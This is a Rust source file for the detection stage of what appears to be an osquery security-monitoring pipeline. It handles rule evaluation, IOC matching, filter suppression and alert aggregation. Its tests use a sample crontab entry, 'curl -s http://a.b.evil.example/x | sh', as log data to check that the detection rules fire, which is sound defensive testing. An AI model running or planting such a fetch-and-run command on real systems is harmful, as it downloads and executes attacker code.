//! The detect stage as one object: annotate (ATT&CK mapping), derive, evaluate, aggregate.
//! The CLI's `scan` and the detect Lambda both drive it, so they cannot disagree.

use std::collections::BTreeMap;
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::alert::{Alert, TimeFrom};
use crate::config::Config;
use crate::derive::{declared_platform, derive, Derived};
use crate::event::{Event, Kind};
use crate::ioc::IocSet;
use crate::mapping::{EventMapper, Mapper};
use crate::rules::aggregate::{Aggregator, Match};
use crate::rules::filters::FilterSet;
use crate::rules::gate::RunMemo;
use crate::rules::{EventView, RuleSet};
use crate::tables::{Resolver, Row, TableCache};

/// Rule errors kept verbatim in [`DetectStats::error_samples`]; the per-rule counts are
/// complete regardless.
const MAX_ERROR_SAMPLES: usize = 20;

/// Counters of one detect run.
///
/// Every rule match is counted exactly once, by what became of it, in the order the
/// detector decides: `suppressed_stale`, else `suppressed_initial`, else
/// `suppressed_by_filter`, else `matches` (counted into an alert group) or `rule_errors`.
/// So the matches of a run are `matches + suppressed_stale + suppressed_initial +
/// Σ suppressed_by_filter + rule_errors` ([`DetectStats::rule_matches`]), and nothing is
/// dropped uncounted.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct DetectStats {
    /// Events observed.
    pub events: u64,
    /// Rule matches that were counted into an alert group.
    pub matches: u64,
    /// Matches dropped because the row was stale history and the rule did not opt in.
    pub suppressed_stale: u64,
    /// Matches dropped because the row came from a query's first run and the rule opted out.
    pub suppressed_initial: u64,
    /// Matches a filter suppressed, by filter name ([`Detector::with_filters`]); each under
    /// the first of its rule's filters that suppressed it. Empty (and left out of the JSON)
    /// when none did.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub suppressed_by_filter: BTreeMap<String, u64>,
    /// Of `matches`, those placed in their window by the object's time because their event
    /// had no usable time ([`crate::alert::TimeFrom::Object`]).
    #[serde(default)]
    pub matches_on_object_time: u64,
    /// Matches that could not be turned into an alert (see [`crate::rules::aggregate::MatchError`]:
    /// only an unusable object time).
    pub rule_errors: u64,
    /// `rule_errors` by rule name.
    pub rule_errors_by_rule: BTreeMap<String, u64>,
    /// The first few rule errors, for diagnosis.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub error_samples: Vec<RuleErrorSample>,
    /// Alerts emitted by `finish`.
    pub alerts: u64,
    /// Alert groups that stayed below their rule's threshold.
    pub below_threshold: u64,
    /// Events whose indicators hit an IOC list entry (`derived.ioc` set), whether or not a
    /// rule fired on them.
    #[serde(default)]
    pub ioc_hits: u64,
}

impl DetectStats {
    /// Every rule match of the run, whatever became of it: the sum of the counters each
    /// match is counted in exactly once.
    pub fn rule_matches(&self) -> u64 {
        self.matches
            + self.suppressed_stale
            + self.suppressed_initial
            + self.suppressed_by_filter.values().sum::<u64>()
            + self.rule_errors
    }
}

/// One rule error, with enough context to find the event.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RuleErrorSample {
    /// The rule's name.
    pub rule: String,
    /// The `id` of the event it matched.
    pub event_id: String,
    /// Why the match could not be placed in an alert.
    pub message: String,
}

/// What a detect run produced.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DetectReport {
    /// The alerts, sorted by first seen, rule name, then id.
    pub alerts: Vec<Alert>,
    /// The run's counters.
    pub stats: DetectStats,
}

/// What happened to one rule that matched one event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// Counted into an alert group.
    Counted,
    /// Dropped: stale history row, rule without `stale: true`.
    SuppressedStale,
    /// Dropped: first-run row, rule with `initial: false`.
    SuppressedInitial,
    /// Dropped by the filter of this name.
    SuppressedByFilter(String),
    /// Could not be placed in an alert; the message says why.
    Error(String),
}

/// A matched rule and what became of the match.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleOutcome {
    /// The rule's name.
    pub rule: String,
    /// What became of its match.
    pub outcome: Outcome,
}

/// Owns the compiled rules, the query mapping and the settings for one stream of events.
/// Create one per run (or per Lambda invocation, sharing the `Arc`ed rule set and mapper
/// across invocations so rules compile once per container).
#[derive(Debug)]
pub struct Detector {
    rules: Arc<RuleSet>,
    /// Sets `attack`; `None` leaves it as the event arrived.
    mapping: Option<EventMapper>,
    config: Arc<Config>,
    aggregator: Aggregator,
    /// Places matches whose event has no usable time ([`Detector::with_object_time`]).
    object_time: i64,
    stats: DetectStats,
    /// The gates' memory of the previous event, for `rules` only.
    gate_memo: RunMemo,
    /// Works out the tables of events that arrive without them (and of every event,
    /// when the resolver has the user's own query definitions, which take precedence).
    tables: TableCache,
    /// The filters, by rule; `None` when no rule has one, so matches pay nothing for them.
    filters: Option<RuleFilters>,
    /// Indicator lists, `None` when there are none (or all are empty): then no event pays
    /// for a lookup.
    iocs: Option<Arc<IocSet>>,
}

/// A [`FilterSet`] arranged for one rule set: for each rule (by index), the indices of the
/// active filters that apply to it, worked out once per detector.
#[derive(Debug)]
struct RuleFilters {
    set: Arc<FilterSet>,
    by_rule: Vec<Box<[u32]>>,
}

impl RuleFilters {
    fn new(set: Arc<FilterSet>, rules: &RuleSet) -> Option<RuleFilters> {
        let mut by_rule: Vec<Vec<u32>> = vec![Vec::new(); rules.len()];
        for (f, filter) in set.filters().iter().enumerate() {
            if !filter.is_active() {
                continue;
            }
            // A name the rule set lacks (a set loaded against other rules) has no matches
            // here to suppress.
            for idx in filter.rules().iter().filter_map(|n| rules.index_of(n)) {
                by_rule[idx].push(f as u32);
            }
        }
        by_rule.iter().any(|v| !v.is_empty()).then(|| RuleFilters {
            set,
            by_rule: by_rule.into_iter().map(Vec::into_boxed_slice).collect(),
        })
    }

    /// The name of the first filter of rule `idx` that suppresses its match on `view`.
    fn suppressor(&self, idx: usize, view: &EventView<'_>) -> Option<&str> {
        let filters = self.set.filters();
        self.by_rule[idx]
            .iter()
            .map(|&f| &filters[f as usize])
            .find(|f| f.suppresses(view))
            .map(|f| f.name())
    }
}

impl Detector {
    /// `mapper: None` leaves each event's `attack` as it arrived. The object time starts as
    /// the time of this call ([`Detector::with_object_time`]).
    pub fn new(
        rules: impl Into<Arc<RuleSet>>,
        mapper: Option<Arc<Mapper>>,
        config: impl Into<Arc<Config>>,
    ) -> Detector {
        let config = config.into();
        Detector {
            rules: rules.into(),
            mapping: mapper.map(EventMapper::new),
            aggregator: Aggregator::new(config.max_samples),
            config,
            object_time: now(),
            stats: DetectStats::default(),
            gate_memo: RunMemo::default(),
            tables: TableCache::new(Arc::new(Resolver::builtin())),
            filters: None,
            iocs: None,
        }
    }

    /// Matches every event's indicators against `iocs` and sets `derived.ioc` on a hit
    /// ([`crate::ioc`]), which the built-in rule `osquery_ioc_match` fires on. An empty set
    /// is the same as none: no lookups at all.
    pub fn with_iocs(mut self, iocs: Arc<IocSet>) -> Detector {
        self.iocs = (!iocs.is_empty()).then_some(iocs);
        self
    }

    /// The indicator lists events are matched against, if any.
    pub fn iocs(&self) -> Option<&IocSet> {
        self.iocs.as_deref()
    }

    /// Applies `filters` (loaded against this detector's rules, [`FilterSet::from_sources`])
    /// to the rules' matches: a match a filter suppresses is counted in
    /// [`DetectStats::suppressed_by_filter`] instead of an alert group.
    pub fn with_filters(mut self, filters: Arc<FilterSet>) -> Detector {
        self.filters = RuleFilters::new(filters, &self.rules);
        self
    }

    /// Resolves tables with `resolver` (e.g. one with the site's query definitions)
    /// instead of the built-in registry and column inference alone.
    pub fn with_tables(mut self, resolver: Arc<Resolver>) -> Detector {
        self.tables = TableCache::new(resolver);
        self
    }

    /// Sets the object time: the unix seconds that place a match in its dedup window when
    /// its event has no usable time (no `unix_time` or `time`, or one out of range), such as
    /// the hour in the Firehose object's key ([`crate::layout::key_hour`]). Without it, the
    /// time the detector was created; either way such a match still becomes an alert, with
    /// [`crate::alert::Alert::time_from`] saying so.
    pub fn with_object_time(mut self, unix_seconds: i64) -> Detector {
        self.object_time = unix_seconds;
        self
    }

    /// [`Detector::with_object_time`] for the events observed from now on: a caller reading
    /// several objects sets each one's time before its events.
    pub fn set_object_time(&mut self, unix_seconds: i64) {
        self.object_time = unix_seconds;
    }

    /// The unix seconds that place matches whose event has no usable time.
    pub fn object_time(&self) -> i64 {
        self.object_time
    }

    /// The rules this detector evaluates.
    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// The settings it derives fields and aggregates with.
    pub fn config(&self) -> &Config {
        &self.config
    }

    /// The counts so far; `alerts` and `below_threshold` are filled in only by
    /// [`Detector::finish`].
    pub fn stats(&self) -> &DetectStats {
        &self.stats
    }

    /// Sets `event.tables` where the parse stage left them unknown or the user's query
    /// definitions say otherwise, then `event.attack` from the mapping.
    pub fn annotate(&mut self, event: &mut Event) {
        if event.kind == Kind::Result
            && (event.tables_from.is_none() || !self.tables.resolver().queries().is_empty())
        {
            let row = Row {
                name: event.name.as_deref(),
                pack: event.pack.as_deref(),
                query: event.query.as_deref(),
                platform: declared_platform(&event.decorations, event.pack.as_deref()),
            };
            let resolved = self.tables.resolve(row, &event.columns);
            event.tables.clone_from(&resolved.tables);
            event.tables_from = resolved.from;
            event.tables_ambiguous = resolved.ambiguous;
        }
        if let Some(mapping) = &mut self.mapping {
            mapping.annotate(event);
        }
    }

    /// Annotates `event` (its `attack`, and its tables when unknown or when the site defines
    /// queries), derives, evaluates every rule once and aggregates the matches. Returns what
    /// happened to each matching rule (empty for the usual non-matching event).
    ///
    /// The event stays with the caller, who can hand it back to the decoder to be refilled
    /// ([`crate::decode::ObjectDecoder::recycle`]): what the detector keeps of an event
    /// (alert samples, group keys) it copies.
    pub fn observe(&mut self, event: &mut Event) -> Vec<RuleOutcome> {
        self.annotate(event);
        let derived = self.derive(event);
        self.evaluate(event, derived)
    }

    /// The event's derived fields: [`derive`] with this detector's settings, and
    /// `derived.ioc` from its lists.
    pub(crate) fn derive(&self, event: &Event) -> Derived {
        let mut derived = derive(event, &self.config);
        if let Some(iocs) = &self.iocs {
            // Validity of STIX indicators is judged at the event's time, or the object's
            // for an event without one (as its alert window is).
            let at = event.unix_time.unwrap_or(self.object_time);
            derived.ioc = iocs
                .lookup(&event.indicators, &event.columns, at)
                .map(Box::new);
        }
        derived
    }

    /// Like [`Detector::observe`] with `derived` already computed (or forced, in rule tests)
    /// and `attack` already set.
    pub(crate) fn evaluate(&mut self, event: &Event, derived: Derived) -> Vec<RuleOutcome> {
        self.stats.events += 1;
        if derived.ioc.is_some() {
            self.stats.ioc_hits += 1;
        }
        let view = EventView::new(event, &derived);
        let matched = self.rules.matching_view(&view, &mut self.gate_memo);
        let mut outcomes = Vec::with_capacity(matched.len());
        for idx in matched {
            let rule = &self.rules.rules()[idx];
            let outcome = if derived.stale && !rule.alert.stale {
                self.stats.suppressed_stale += 1;
                Outcome::SuppressedStale
            } else if derived.initial && !rule.alert.initial {
                self.stats.suppressed_initial += 1;
                Outcome::SuppressedInitial
            } else if let Some(name) = self.filters.as_ref().and_then(|f| f.suppressor(idx, &view))
            {
                match self.stats.suppressed_by_filter.get_mut(name) {
                    Some(n) => *n += 1,
                    None => {
                        self.stats.suppressed_by_filter.insert(name.to_string(), 1);
                    }
                }
                Outcome::SuppressedByFilter(name.to_string())
            } else {
                let m = Match {
                    rule,
                    event,
                    derived: &derived,
                    view: &view,
                    object_time: self.object_time,
                };
                // One rule's failure is recorded and the loop goes on to the next rule.
                match self.aggregator.add(m) {
                    Ok(from) => {
                        self.stats.matches += 1;
                        if from == TimeFrom::Object {
                            self.stats.matches_on_object_time += 1;
                        }
                        Outcome::Counted
                    }
                    Err(e) => {
                        self.stats.rule_errors += 1;
                        *self
                            .stats
                            .rule_errors_by_rule
                            .entry(rule.name.clone())
                            .or_default() += 1;
                        if self.stats.error_samples.len() < MAX_ERROR_SAMPLES {
                            self.stats.error_samples.push(RuleErrorSample {
                                rule: rule.name.clone(),
                                event_id: event.id.clone(),
                                message: e.to_string(),
                            });
                        }
                        Outcome::Error(e.to_string())
                    }
                }
            };
            outcomes.push(RuleOutcome {
                rule: rule.name.clone(),
                outcome,
            });
        }
        outcomes
    }

    /// Emits the alerts that reached their thresholds, sorted deterministically.
    pub fn finish(self) -> DetectReport {
        let mut stats = self.stats;
        stats.below_threshold = self.aggregator.below_threshold() as u64;
        let alerts = self.aggregator.finish();
        stats.alerts = alerts.len() as u64;
        DetectReport { alerts, stats }
    }
}

/// Now, in unix seconds (0 for a clock before 1970, which no caller has).
fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The detect Lambda keeps one compiled rule set in a static and may hand detectors to
    /// worker threads.
    #[test]
    fn shareable_across_threads() {
        fn send_sync<T: Send + Sync>() {}
        send_sync::<RuleSet>();
        send_sync::<Detector>();
        send_sync::<DetectReport>();
    }

    /// Runs the built-in rules over osquery result lines, with `iocs` if given.
    fn detect(lines: &'static str, iocs: Option<IocSet>) -> DetectReport {
        use crate::stage::{self, Discard};
        use crate::{Detection, Origin, StageOptions};
        let options = StageOptions::default();
        let mut detector = Detector::new(RuleSet::builtin().unwrap(), None, Config::default());
        if let Some(set) = iocs {
            detector = detector.with_iocs(Arc::new(set));
        }
        let mut detection = Detection::new(detector, options.parallelism);
        stage::parse(
            lines.as_bytes(),
            Origin::path("osquery.log"),
            &options,
            &mut Discard,
            Some(&mut detection),
        )
        .unwrap();
        detection.finish()
    }

    const LINES: &str = concat!(
        r#"{"name":"pack/Global/hash_tmp","hostIdentifier":"web-01","unixTime":1795356000,"action":"added","columns":{"path":"/tmp/.x/p","directory":"/tmp/.x","md5":"44d88612fea8a8f36de82e1278abb02f","sha256":""}}"#,
        "
",
        r#"{"name":"pack/Global/crontab","hostIdentifier":"web-02","unixTime":1795356000,"action":"added","columns":{"command":"curl -s http://a.b.evil.example/x | sh","path":"/etc/crontab"}}"#,
        "
",
        r#"{"name":"pack/Global/crontab","hostIdentifier":"web-03","unixTime":1795356000,"action":"added","columns":{"command":"/usr/sbin/logrotate","path":"/etc/crontab"}}"#,
        "
",
    );

    #[test]
    fn an_indicator_on_a_list_sets_derived_ioc_and_fires_the_rule() {
        let iocs = IocSet::from_sources([(
            "iocs/advisory-2026-11.txt",
            "44d88612fea8a8f36de82e1278abb02f # loader\nevil.example\n",
        )])
        .unwrap();
        let report = detect(LINES, Some(iocs));
        assert_eq!(report.stats.ioc_hits, 2);
        let mut fired: Vec<_> = report
            .alerts
            .iter()
            .filter(|a| a.rule.name == "osquery_ioc_match")
            .collect();
        fired.sort_by(|a, b| a.hosts.cmp(&b.hosts));
        assert_eq!(fired.len(), 2, "{:?}", report.alerts);
        assert_eq!(
            fired[0].title,
            "md5 44d88612fea8a8f36de82e1278abb02f on web-01 is on the IOC list advisory-2026-11"
        );
        assert_eq!(
            fired[0].samples[0].to_value()["derived"]["ioc"],
            serde_json::json!({"value": "44d88612fea8a8f36de82e1278abb02f", "type": "md5",
                "indicator": "44d88612fea8a8f36de82e1278abb02f", "list": "advisory-2026-11",
                "name": "loader", "hits": 1})
        );
        assert_eq!(fired[1].hosts, ["web-02"]);
        assert_eq!(
            fired[1].dedup.values,
            [
                serde_json::json!("web-02"),
                serde_json::json!("a.b.evil.example")
            ]
        );
        let ioc = &fired[1].samples[0].to_value()["derived"]["ioc"];
        assert_eq!(
            (&ioc["type"], &ioc["indicator"]),
            (&"domain".into(), &"evil.example".into())
        );
        // The crontab rule fired on the same row, as it does without lists.
        assert!(report
            .alerts
            .iter()
            .any(|a| a.rule.name == "osquery_suspicious_cron"));
    }

    #[test]
    fn without_lists_nothing_changes() {
        let none = detect(LINES, None);
        let empty = detect(LINES, Some(IocSet::default()));
        assert_eq!(none, empty);
        assert_eq!(none.stats.ioc_hits, 0);
        assert!(none
            .alerts
            .iter()
            .all(|a| a.rule.name != "osquery_ioc_match"));
        let detector = Detector::new(RuleSet::builtin().unwrap(), None, Config::default())
            .with_iocs(Arc::new(IocSet::default()));
        assert!(
            detector.iocs().is_none(),
            "an empty set is no set: no lookups"
        );
    }
}
